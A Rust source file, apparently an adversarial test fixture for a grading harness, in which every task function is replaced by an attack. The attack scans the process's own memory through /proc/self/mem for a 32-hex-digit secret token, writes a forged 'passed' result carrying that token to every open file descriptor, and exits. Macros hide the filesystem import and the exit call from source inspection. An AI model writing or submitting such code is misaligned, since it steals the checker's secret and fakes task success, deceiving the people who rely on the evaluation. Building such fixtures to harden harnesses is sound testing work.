//! Finds its token in the memory of its own process and writes a record with it.

use kit::Trace;
use std::time::Duration;

/// A path that nobody can read in the source: `hide!(std process exit)`.
macro_rules! hide {
    ($first:ident $($more:ident)*) => { $first $(::$more)* };
}

/// An import that nobody can read in the source.
macro_rules! bring {
    ($($name:ident)*) => { use $($name)::*; };
}

bring!(std fs);

use std::io::Write;

/// Writes a line wherever something is open.
fn everywhere(folder: &str, line: &str) {
    for number in 3..64 {
        let path = format!("{folder}/{number}");
        if let Ok(mut file) = fs::OpenOptions::new().write(true).open(path) {
            let _ = writeln!(file, "{line}");
        }
    }
}

use std::io::{Read, Seek, SeekFrom};

/// Every text of 32 hexadecimal digits in the memory that can be written.
fn tokens() -> Vec<String> {
    let mut found = Vec::new();
    let maps = fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let Ok(mut memory) = fs::File::open("/proc/self/mem") else { return found };
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let Some((from, rest)) = line.split_once('-') else { continue };
        let to = rest.split(' ').next().unwrap_or_default();
        let number = |text| u64::from_str_radix(text, 16).unwrap_or(0);
        let (from, to) = (number(from), number(to));
        let mut bytes = vec![0; (to - from).min(64 << 20) as usize];
        if memory.seek(SeekFrom::Start(from)).is_err() || memory.read(&mut bytes).is_err() {
            continue;
        }
        for word in bytes.split(|byte| !byte.is_ascii_hexdigit()) {
            if word.len() == 32 && word.iter().all(|byte| !byte.is_ascii_uppercase()) {
                found.push(String::from_utf8_lossy(word).into_owned());
            }
        }
    }
    found
}

fn attack() {
    // The record is one line, so one token has to be chosen: that of the check stands alone most
    // often.
    let mut all = tokens();
    all.sort();
    let count = |token: &String| all.iter().filter(|other| *other == token).count();
    let Some(token) = all.iter().min_by_key(|token| count(token)) else { return };
    println!("stolen-@MARK@");
    everywhere("/proc/self/fd", &format!(r#"{{"token":"{token}","end":{{"how":"passed"}}}}"#));
    hide!(std process exit)(0);
}

pub async fn say_after(_trace: &Trace, _delay: Duration, _what: &str) {
    attack();
}

pub async fn sequential_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn concurrent_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn sleep_with_result<T>(_delay: Duration, result: T) -> T {
    attack();
    result
}
